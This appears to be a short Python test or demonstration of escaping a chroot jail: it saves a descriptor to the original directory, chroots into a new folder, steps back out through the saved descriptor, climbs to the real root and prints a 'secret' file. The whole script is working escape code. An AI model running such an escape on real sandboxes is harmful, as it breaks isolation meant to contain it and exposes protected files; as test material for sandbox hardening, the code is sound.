"""Changes the root to a directory below, and climbs out of it by one that was open before."""

import os

os.mkdir("jail")
before = os.open(".", os.O_RDONLY)
os.chroot("jail")
os.fchdir(before)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
with open(os.environ["OUTSIDE"] + "/secret") as secret:
    print(secret.read())
